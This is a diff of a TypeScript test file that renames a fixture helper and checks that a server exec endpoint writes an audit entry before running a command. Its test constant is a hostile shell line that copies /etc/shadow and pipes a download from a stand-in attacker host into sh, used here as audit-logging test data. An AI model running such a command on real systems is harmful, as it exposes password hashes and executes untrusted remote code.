@@ -2,24 +2,24 @@
 import { createHash } from 'node:crypto';
 import type { AuditEntry } from '@buoy/contract';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
-import { type AccessGround, prepareAccessGround } from '../support/access-ground.ts';
+import { type AccessFixture, prepareAccessFixture } from '../support/access-fixture.ts';
 
 const COMMAND = 'cp /etc/shadow /tmp/x; curl evil.example | sh';
 
-let ground: AccessGround;
+let fixture: AccessFixture;
 let serverId: string;
 beforeAll(async () => {
-  ground = await prepareAccessGround();
-  serverId = await ground.newServer();
+  fixture = await prepareAccessFixture();
+  serverId = await fixture.newServer();
 });
-afterAll(() => ground.running.close());
+afterAll(() => fixture.running.close());
 
 /** The entry that a command leaves before it runs. */
 async function entryOf(command: string): Promise<AuditEntry> {
-  const { statusCode } = await ground.as('admin', 'POST', `/servers/${serverId}/exec`, { command });
+  const { statusCode } = await fixture.as('admin', 'POST', `/servers/${serverId}/exec`, { command });
   // Nothing listens there: it was taken, and could not be run.
   expect(statusCode).toBe(503);
-  const entry = (await ground.auditLog()).findLast(
+  const entry = (await fixture.auditLog()).findLast(
     ({ action, result }) => action === 'POST /servers/:id/exec' && result === 'started',
   );
   if (entry === undefined) expect.unreachable('the command left no entry');
